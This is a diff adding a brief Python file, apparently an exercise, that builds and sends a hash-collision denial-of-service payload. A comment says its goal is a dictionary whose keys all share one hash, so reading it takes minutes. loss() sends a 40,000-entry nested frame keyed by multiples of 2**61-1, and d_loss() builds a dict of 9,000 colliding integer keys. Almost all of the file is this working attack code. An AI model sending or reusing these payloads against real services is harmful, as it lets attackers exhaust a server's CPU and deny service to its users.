@@ -1,0 +1,12 @@
+# attempts = "sends a dictionary whose keys all have one hash, so that reading it takes minutes"
+# with = "forge"
+
+# %% exercise="loss"
+HEADER = '{"d":[["value",{"d":[' + ",".join('[{"i":"%x"},null]' % (k * (2**61 - 1)) for k in range(40_000)) + ']}]]}'
+def loss(w):
+    send(frame(HEADER))
+    return w
+
+# %% exercise="d_loss"
+def d_loss(w):
+    return {k * (2**61 - 1): 0 for k in range(9_000)}
